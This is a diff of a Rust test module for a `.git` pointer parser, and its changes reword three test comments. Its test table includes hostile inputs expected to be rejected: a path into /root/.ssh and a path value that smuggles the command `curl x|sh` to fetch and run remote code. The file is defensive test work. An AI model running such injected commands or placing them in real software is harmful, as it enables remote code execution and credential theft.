@@ -261,7 +261,7 @@ mod tests {
             ),
             ("/repo/.git/modules/x", None),
             ("../repo/.git/worktrees/x", None),
-            // A hint that gives a secret away, or runs what the workspace says.
+            // A hint that would reveal a secret, or run a command from the workspace.
             ("/root/.ssh/worktrees/x", None),
             ("/a/../root/.git/worktrees/x", None),
             ("/a\";curl x|sh;\"/.git/worktrees/x", None),
@@ -344,7 +344,7 @@ mod tests {
     }
 
     proptest! {
-        /// Whatever a `.git` file holds: a path of it that C can have, or none.
+        /// Any `.git` file gives a path that C can take, or `None`.
         #[test]
         fn any_pointer_is_read(bytes: Vec<u8>, has_prefix: bool) {
             let prefix: &[u8] = if has_prefix { b"gitdir: " } else { b"" };
@@ -356,7 +356,7 @@ mod tests {
             }
         }
 
-        /// Whatever it points to: no command of a hint has more than a path of plain letters in it.
+        /// Whatever it points to, the command in a hint holds only a path of plain letters.
         #[test]
         fn any_target_is_harmless_in_a_hint(target in "[/a.\"$`: ;\n-]{0,12}(/\\.git)?/worktrees/.{0,4}") {
             if let Some(folder) = repository_of(target.as_bytes()) {
